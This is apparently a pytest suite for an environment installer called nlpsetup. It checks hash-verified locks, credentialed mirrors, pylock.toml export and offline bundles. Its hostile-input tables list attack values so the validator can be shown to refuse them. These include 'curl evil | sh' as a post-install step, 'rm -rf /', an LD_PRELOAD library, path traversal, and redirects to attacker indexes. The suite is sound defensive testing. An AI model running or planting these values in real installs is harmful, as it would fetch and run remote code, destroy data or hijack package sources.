"""Locks, standard locks and offline bundles, with real installs against the local index: hashes
that are checked, hostile lock files that get one line (exit 2) naming the file and the field, a
credentialed mirror that applies again, a pylock.toml that uv installs, a bundle that installs
with every index unreachable."""

from __future__ import annotations

import base64
import functools
import hashlib
import http.server
import json
import os
import socket
import stat
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest

import figures
import installkit
from nlpsetup.resolve.backends import find_uv

UV = find_uv()
needs_uv = pytest.mark.skipif(not UV, reason="uv is not installed (pip install 'nlpsetup[uv]')")
BACKEND = "uv" if UV else "pip"


def _closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]  # closed again when the socket is: nothing listens there


def _index_file(kit, name: str) -> Path:
    root = Path(kit["recipes"]).parent / "index"
    (found,) = [p for p in root.rglob(name) if p.is_file()]
    return found


# --- locks: name==version with hashes, checked on install -------------------------------------------


def test_lock_carries_the_index_hashes_and_from_lock_checks_them(cli, kit, home, tmp_path):
    assert cli("install", "nlpdemo", "--backend", BACKEND)[0] == 0
    lock_file = tmp_path / "lock.json"
    assert cli("lock", "nlpdemo", "-o", str(lock_file))[0] == 0
    lock = json.loads(lock_file.read_text())
    wheel = _index_file(kit, "nlpdemo-1.0.0-py3-none-any.whl")
    assert lock["hashes"]["nlpdemo"] == [f"sha256:{hashlib.sha256(wheel.read_bytes()).hexdigest()}"]
    assert set(lock["hashes"]) == {"nlpdemo", "torch"}, "every locked release carries its hashes"
    code, out, _ = cli("install", "--from-lock", str(lock_file), "--name", "copy", "--dry-run", "--json")
    steps = json.loads(out)[0]["steps"]
    assert code == 0 and all("--require-hashes" in s["argv"] for s in steps if s["name"] in ("framework", "install"))
    r = cli("install", "--from-lock", str(lock_file), "--name", "copy")
    assert r[0] == 0, r[2]

    lock["hashes"]["nlpdemo"] = ["sha256:" + "0" * 64]  # a lock whose release was swapped on the index
    lock_file.write_text(json.dumps(lock))
    code, out, err = cli("install", "--from-lock", str(lock_file), "--name", "tampered")
    assert code == 1 and "hash" in (out + err).lower() and "Traceback" not in err
    # Not a corrupt cache: the index serves other bytes than the lock recorded, and the message names them.
    assert "nlpdemo==1.0.0" in err and "differs from the file the lock or bundle recorded" in err, err
    assert "clear the cache" not in err
    assert not (home / "envs" / "tampered").exists()


def _valid_lock() -> dict:
    return {"kind": "nlpsetup-lock", "schema_version": 2, "env": "x",
            "tools": [{"name": "tinytool", "variant": "1", "smoke": {"imports": ["tinytool"]}}],
            "python": {"version": "3.12.1"}, "platform": {"os": "linux", "arch": "x86_64"},
            "compute": {}, "install_env": {}, "distributions": {"tinytool": "2.0.0"},
            "hashes": {"tinytool": ["sha256:" + "a" * 64]}, "indexes": []}


def _with(**changes) -> str:
    lock = _valid_lock()
    for path, value in changes.items():
        *head, last = path.split("__")
        target = lock
        for key in head:
            target = target[key]
        target[last] = value
    return json.dumps(lock)


HOSTILE_LOCKS = [
    ("direct URL key", _with(distributions={"pkg @ http://evil/x.whl": "1.0"}), "distributions.pkg @ http"),
    ("marker key", _with(distributions={"pkg; os_name=='nt'": "1.0"}), "distributions.pkg;"),
    ("version not a version", _with(distributions={"tinytool": "latest"}), "distributions.tinytool"),
    ("null distributions", _with(distributions=None), "'distributions'"),
    ("list for python", _with(python=["3.12"]), "'python.version'"),
    ("number version", _with(python={"version": 3.12}), "'python.version'"),
    ("null platform", _with(platform=None), "'platform'"),
    ("foreign key", json.dumps({**_valid_lock(), "post_install": "curl evil | sh"}), "'post_install'"),
    ("PIP_TARGET", _with(install_env={"PIP_TARGET": "/tmp/elsewhere"}), "install_env.PIP_TARGET"),
    ("LD_PRELOAD", _with(install_env={"LD_PRELOAD": "/tmp/evil.so"}), "install_env.LD_PRELOAD"),
    ("bad hash", _with(hashes={"tinytool": ["md5:abc"]}), "hashes.tinytool"),
    ("hash for nothing", _with(hashes={"tinytool": ["sha256:" + "a" * 64], "evil": ["sha256:" + "b" * 64]}),
     "hashes.evil"),
    ("unhashed release", _with(hashes={}), "hashes.tinytool"),
    ("env name a path", _with(env="../../etc"), "'env'"),
    ("tool name a path", _with(tools=[{"name": "../x"}]), "tools[0].name"),
    ("smoke commands a string", _with(tools=[{"name": "t", "smoke": {"commands": "rm -rf /"}}]),
     "tools[0].smoke.commands"),
    ("timeout a bool", _with(tools=[{"name": "t", "smoke": {"timeout": True}}]), "tools[0].smoke.timeout"),
    ("newer schema", _with(schema_version=99), "'schema_version'"),
    ("name ending in a newline", _with(distributions={"tinytool\n": "2.0.0"}, hashes={}), "distributions.tinytool"),
    ("tool name ending in a newline", _with(tools=[{"name": "t\n"}]), "tools[0].name"),
    ("hash ending in a newline", _with(hashes={"tinytool": ["sha256:" + "a" * 64 + "\n"]}), "hashes.tinytool"),
    ("100k-deep nesting", "[" * 100_000 + "]" * 100_000, "is not JSON"),
    ("not UTF-8", "\udcff", "not UTF-8"),
]


@pytest.mark.parametrize(("text", "words"), [(t, w) for _, t, w in HOSTILE_LOCKS], ids=[i for i, _, _ in HOSTILE_LOCKS])
def test_hostile_lock_files_get_one_line_naming_the_file_and_field(cli, home, tmp_path, text, words):
    f = tmp_path / "hostile.json"
    f.write_bytes(text.encode("utf-8", errors="surrogateescape"))
    code, out, err = cli("install", "--from-lock", str(f), "--name", "h")
    figures.add("hostile inputs tried")
    assert code == 2, (out, err)
    assert str(f) in err and words in err and "Traceback" not in err
    assert not (home / "envs" / "h").exists()


HOSTILE_PYLOCKS = [
    ("vcs package", 'lock-version = "1.0"\nrequires-python = "==3.12.*"\n[[packages]]\nname = "x"\n'
                    'vcs = {type = "git", url = "https://evil/x.git", commit-id = "abc"}\n', "packages[0].vcs"),
    ("no hashes", 'lock-version = "1.0"\nrequires-python = "==3.12.*"\n[[packages]]\nname = "x"\nversion = "1"\n'
                  'wheels = [{url = "https://evil/x-1-py3-none-any.whl"}]\n', "packages[0].wheels[0].hashes"),
    ("lock-version 2", 'lock-version = "2.0"\n', "'lock-version'"),
    ("wheels a number", 'lock-version = "1.0"\nrequires-python = "==3.12.*"\n[[packages]]\nname = "x"\nversion = "1"\n'
                        'wheels = 5\n', "packages[0].wheels"),
    ("deep nesting", "a = " + "[" * 100_000 + "]" * 100_000 + "\n", "is not TOML"),
    ("foreign tool table", 'lock-version = "1.0"\nrequires-python = "==3.12.*"\npackages = []\n'
                           '[tool.nlpsetup]\ninstall_env = {UV_INDEX_URL = "http://evil"}\n', "install_env.UV_INDEX_URL"),
]


@pytest.mark.parametrize(("text", "words"), [(t, w) for _, t, w in HOSTILE_PYLOCKS], ids=[i for i, _, _ in HOSTILE_PYLOCKS])
def test_hostile_pylock_files_get_one_line_naming_the_field(cli, tmp_path, text, words):
    f = tmp_path / "pylock.toml"
    f.write_text(text)
    code, out, err = cli("install", "--from-lock", str(f), "--name", "h")
    figures.add("hostile inputs tried")
    assert code == 2 and str(f) in err and words in err and "Traceback" not in err, (out, err)


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "huge"])
def test_lock_files_that_are_not_files_never_hang_or_fill_memory(cli, tmp_path, kind):
    f = tmp_path / "lock.json"
    if kind == "fifo":
        os.mkfifo(f)
        words = "not a regular file"
    elif kind == "dev-zero":
        f.symlink_to("/dev/zero")
        words = "not a regular file"
    else:
        with open(f, "wb") as fh:
            fh.truncate(64 * 1024 * 1024)  # sparse: costs no disk
        words = "too large"
    code, _, err = cli("install", "--from-lock", str(f), timeout=60)
    figures.add("hostile inputs tried")
    assert code == 2 and str(f) in err and words in err and "Traceback" not in err


# --- a credentialed mirror ---------------------------------------------------------------------------

SECRET = "t0ken-s3cret"


class _AuthHandler(http.server.SimpleHTTPRequestHandler):
    """The local index over HTTP; the PyTorch mirror under /mirror answers only with the token."""

    def log_message(self, *args):
        pass

    def do_GET(self):
        if self.path.startswith("/mirror"):
            want = "Basic " + base64.b64encode(f"alice:{SECRET}".encode()).decode()
            if self.headers.get("Authorization") != want:
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="mirror"')
                self.end_headers()
                return
        super().do_GET()


@pytest.fixture
def mirror(kit):
    root = Path(kit["recipes"]).parent / "index"
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_AuthHandler, directory=str(root)))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://alice:{SECRET}@127.0.0.1:{httpd.server_address[1]}/mirror"
    httpd.shutdown()


def test_from_lock_of_an_env_built_through_a_credentialed_mirror(cli, mirror, tmp_path):
    env = {"NLPSETUP_TORCH_INDEX_URL": mirror}
    code, _, err = cli("install", "nlpdemo", "--backend", BACKEND, env=env)
    assert code == 0, err
    lock_file = tmp_path / "lock.json"
    assert cli("lock", "nlpdemo", "-o", str(lock_file), env=env)[0] == 0
    text = lock_file.read_text()
    assert SECRET not in text and "alice:****@" in json.loads(text)["compute"]["index"]
    for dry in (["--dry-run"], ["--dry-run", "--json"]):
        code, out, err = cli("install", "--from-lock", str(lock_file), "--name", "again", *dry, env=env)
        assert code == 0 and SECRET not in out + err and "alice:****@" in out
    code, out, err = cli("install", "--from-lock", str(lock_file), "--name", "again", "-v", env=env)
    assert code == 0, err
    assert SECRET not in out + err
    code, _, err = cli("install", "--from-lock", str(lock_file), "--name", "nomirror")
    assert code == 2 and "needs its credentials" in err and "NLPSETUP_TORCH_INDEX_URL" in err


# --- standard locks ------------------------------------------------------------------------------------


@needs_uv
def test_exported_pylock_installs_with_uv_into_a_bare_venv_and_reads_back(cli, kit, home, tmp_path):
    assert cli("install", "nlpdemo", "--backend", BACKEND)[0] == 0
    pylock = tmp_path / "pylock.toml"
    code, out, err = cli("export", "nlpdemo", "--format", "pylock", "-o", str(pylock))
    assert code == 0, err
    text = pylock.read_text()
    assert 'lock-version = "1.0"' in text and 'created-by = "nlpsetup"' in text and "sha256" in text
    bare = tmp_path / "bare"
    env = {k: v for k, v in installkit.environ(kit, home).items() if not k.startswith("PIP_")}
    python = json.loads((home / "envs" / "nlpdemo" / "nlpsetup.json").read_text())["interpreter"]["path"]
    subprocess.run([UV, "venv", "--quiet", "--python", python, str(bare)], check=True, env=env)
    py = bare / "bin" / "python"
    p = subprocess.run([UV, "pip", "install", "--python", str(py), "-r", str(pylock)], capture_output=True,
                       text=True, env=env)
    assert p.returncode == 0, p.stderr
    p = subprocess.run([str(py), "-c", "import nlpdemo, torch; print(nlpdemo.__version__, torch.__version__)"],
                       capture_output=True, text=True)
    assert p.stdout.split() == ["1.0.0", "2.13.0+cpu"]
    code, _, err = cli("install", "--from-lock", str(pylock), "--name", "back")
    assert code == 0, err


@pytest.mark.installed(("tinytool", BACKEND))
def test_exported_requirements_install_with_pip_require_hashes(cli, kit, home, tmp_path):
    code, out, _ = cli("export", "tinytool", "--format", "requirements")
    assert code == 0 and "tinytool==2.0.0 \\\n    --hash=sha256:" in out
    req = tmp_path / "requirements.txt"
    req.write_text(out)
    bare = tmp_path / "bare"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(bare)], check=True)
    p = subprocess.run([sys.executable, "-m", "pip", "--python", str(bare / "bin" / "python"), "install", "-q",
                        "--no-deps", "--require-hashes", "-r", str(req)], capture_output=True, text=True,
                       env=installkit.environ(kit, home))
    assert p.returncode == 0, p.stderr
    assert subprocess.run([str(bare / "bin" / "python"), "-c", "import tinytool"]).returncode == 0


# --- offline bundles --------------------------------------------------------------------------------------


def test_bundle_then_install_with_every_index_unreachable(cli, kit, home, tmp_path):
    out = tmp_path / "B"
    code, stdout, err = cli("bundle", "nlpdemo", "-o", str(out))
    assert code == 0, err
    assert {"README.md", "nlpsetup.lock.json", "nlpdemo.toml", "wheels"} <= {p.name for p in out.iterdir()}
    assert sorted(p.name for p in (out / "wheels").iterdir()) == ["nlpdemo-1.0.0-py3-none-any.whl",
                                                                   "torch-2.13.0+cpu-py3-none-any.whl"]
    dead = f"http://127.0.0.1:{_closed_port()}/simple"
    offline = {"PIP_INDEX_URL": dead, "UV_INDEX_URL": dead, "UV_DEFAULT_INDEX": dead, "NLPSETUP_TORCH_INDEX_URL": dead,
               "UV_CACHE_DIR": str(tmp_path / "empty-uv-cache"), "PIP_CACHE_DIR": str(tmp_path / "empty-pip-cache")}
    code, stdout, err = cli("install", "--from-bundle", str(out), "--name", "offline", env=offline)
    assert code == 0, err
    m = json.loads((home / "envs" / "offline" / "nlpsetup.json").read_text())
    assert m["distributions"]["torch"] == "2.13.0+cpu" and all(s["passed"] for s in m["smoke"])

    wheel = out / "wheels" / "nlpdemo-1.0.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel) as z:  # the same release, altered: a valid wheel with one more file
        files = {n: z.read(n) for n in z.namelist()}
    with zipfile.ZipFile(wheel, "w") as z:
        for n, data in {**files, "nlpdemo/planted.py": b"print('tampered')\n"}.items():
            z.writestr(n, data)
    # Fresh caches: uv would rightly install the good copy it cached above, which matches the lock.
    offline.update(UV_CACHE_DIR=str(tmp_path / "uv-cache-2"), PIP_CACHE_DIR=str(tmp_path / "pip-cache-2"))
    for backend in dict.fromkeys((BACKEND, "pip")):  # each words a mismatch its own way
        code, stdout, err = cli("install", "--from-bundle", str(out), "--name", "tampered", "--backend", backend,
                                env=offline)
        assert code == 1 and not (home / "envs" / "tampered").exists()
        assert "nlpdemo==1.0.0" in err and "the bundle was altered" in err and "clear the cache" not in err, err


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
def test_a_fifo_in_place_of_a_bundled_wheel_is_refused_at_once(cli, home, tmp_path):
    out = tmp_path / "B"
    assert cli("bundle", "tinytool", "-o", str(out))[0] == 0
    (wheel,) = (out / "wheels").iterdir()
    wheel.unlink()
    os.mkfifo(wheel)  # pip would block on it until the step limit
    code, _, err = cli("install", "--from-bundle", str(out), "--name", "f", timeout=60)
    assert code == 2 and f"wheels/{wheel.name} is not a regular file" in err
    assert not (home / "envs" / "f").exists()


def test_bundle_for_another_host_holds_its_wheels_and_refuses_to_install_here(cli, tmp_path):
    out = tmp_path / "mac"
    code, stdout, err = cli("bundle", "tinytool", "-o", str(out), "--platform", "macos", "--arch", "arm64",
                            "--python", "3.11", "--json")
    assert code == 0, err
    lock = json.loads((out / "nlpsetup.lock.json").read_text())
    assert lock["platform"]["os"] == "macos" and lock["python"]["version"] == "3.11"
    assert json.loads(stdout)["files"] == 1
    code, _, err = cli("install", "--from-bundle", str(out))
    assert code == 3 and "built for macos" in err


def test_bundle_refuses_a_folder_that_is_not_empty_and_leaves_it_alone(cli, tmp_path):
    out = tmp_path / "mine"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    code, _, err = cli("bundle", "tinytool", "-o", str(out))
    assert code == 2 and "not an empty folder" in err and (out / "notes.txt").read_text() == "mine"


# --- comforts: completion and -q --------------------------------------------------------------------------


def test_completion_scripts_and_tool_and_env_names(cli, run_cli, kit, home):
    for shell in ("bash", "zsh", "fish"):
        code, out, _ = cli("completion", shell)
        assert code == 0 and "_NLPSETUP_COMPLETE" in out
    assert cli("install", "tinytool", "--backend", BACKEND, "-q")[0] == 0
    env = installkit.environ(kit, home, COMP_WORDS="nlpsetup install tin", COMP_CWORD="2",
                             _NLPSETUP_COMPLETE="bash_complete")
    p = subprocess.run([sys.executable, "-m", "nlpsetup"], capture_output=True, text=True, env=env)
    assert "plain,tinytool" in p.stdout.splitlines()
    env.update(COMP_WORDS="nlpsetup run ", COMP_CWORD="2")
    p = subprocess.run([sys.executable, "-m", "nlpsetup"], capture_output=True, text=True, env=env)
    assert p.stdout.splitlines() == ["plain,tinytool"]


def test_quiet_install_prints_the_result_only(cli):
    code, out, err = cli("install", "tinytool", "--backend", BACKEND, "-q")
    assert code == 0 and "installed and verified" in out
    assert "create" not in err and "installing" not in err
    code, out, err = cli("verify", "tinytool", "-q")
    assert code == 0 and "ok " not in err


# --- where a lock may send an install ------------------------------------------------------------------


def test_a_lock_may_name_only_the_users_own_indexes_or_pytorchs(cli, kit, home, tmp_path):
    """A lock (JSON or pylock.toml) handed over by someone else cannot point the PyTorch packages at a
    host of its choosing: refused (exit 2) with the fix, unless the user configured that index too."""
    assert cli("install", "nlpdemo", "--backend", BACKEND)[0] == 0
    lock_file, pylock = tmp_path / "lock.json", tmp_path / "pylock.toml"
    assert cli("lock", "nlpdemo", "-o", str(lock_file))[0] == 0
    assert cli("export", "nlpdemo", "--format", "pylock", "-o", str(pylock))[0] == 0
    lock = json.loads(lock_file.read_text())
    mirror = lock["compute"]["index"]
    assert mirror.startswith(kit["mirror"])
    for evil in ("http://evil.example/whl/cpu", "https://evil.example/whl/cpu", "file:///tmp/elsewhere/cpu"):
        lock["compute"]["index"] = evil
        lock_file.write_text(json.dumps(lock))
        pylock.write_text(pylock.read_text().replace(mirror, evil))
        mirror = evil
        for f in (lock_file, pylock):
            code, out, err = cli("install", "--from-lock", str(f), "--name", "elsewhere", "--dry-run")
            assert code == 2 and f"PyTorch index {evil} is not an index you configured" in err, (f, err)
            assert "configure it yourself" in err and not (home / "envs" / "elsewhere").exists()
        assert ("over plain http" in err) == evil.startswith("http:")
    # The same index configured by the user, or PyTorch's own, is accepted.
    code, _, err = cli("install", "--from-lock", str(lock_file), "--name", "mine", "--dry-run",
                       env={"PIP_EXTRA_INDEX_URL": "file:///tmp/elsewhere/cpu"})
    assert code == 0, err
    lock["compute"]["index"] = "https://download.pytorch.org/whl/cpu"
    lock_file.write_text(json.dumps(lock))
    code, _, err = cli("install", "--from-lock", str(lock_file), "--name", "mine", "--dry-run")
    assert code == 0, err


@pytest.mark.installed(("tinytool", BACKEND))
def test_install_prints_the_plans_warnings_that_dry_run_shows(cli, kit, home, tmp_path):
    """A lock without hashes installs with no hash check: the user is told, in text and in --json."""
    lock_file = tmp_path / "lock.json"
    assert cli("lock", "tinytool", "-o", str(lock_file))[0] == 0
    lock = json.loads(lock_file.read_text())
    del lock["hashes"]  # as an older nlpsetup wrote it (schema 1)
    lock["schema_version"] = 1
    lock_file.write_text(json.dumps(lock))
    code, out, err = cli("install", "--from-lock", str(lock_file), "--name", "plain")
    assert code == 0, err
    assert "nlpsetup: warning: this lock has no hashes" in err
    code, out, err = cli("install", "--from-lock", str(lock_file), "--name", "plain2", "--json", "-q")
    assert code == 0, err
    assert any("no hashes" in w for w in json.loads(out)["warnings"])


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
def test_a_file_written_where_the_user_says_never_replaces_a_device_or_fifo(tmp_path):
    """`lock -o /dev/null` as root renamed a plain file over /dev/null; a target that is not a regular
    file is written to, as a shell redirection would (a FIFO stands in for the device here)."""
    import threading

    from nlpsetup.base.files import write_text_atomic
    from nlpsetup.share import lockfile

    fifo = tmp_path / "out"
    os.mkfifo(fifo)
    for write in (lambda: write_text_atomic(fifo, "text\n"),
                  lambda: lockfile.write(str(fifo), {"distributions": {}, "python": {"version": "3.13.0"}})):
        got = []
        reader = threading.Thread(target=lambda got=got: got.append(fifo.read_text()))
        reader.start()
        write()
        reader.join(timeout=30)
        assert got and got[0].strip() and stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert not [p for p in tmp_path.iterdir() if p.name != "out"]  # no temporary file left beside it
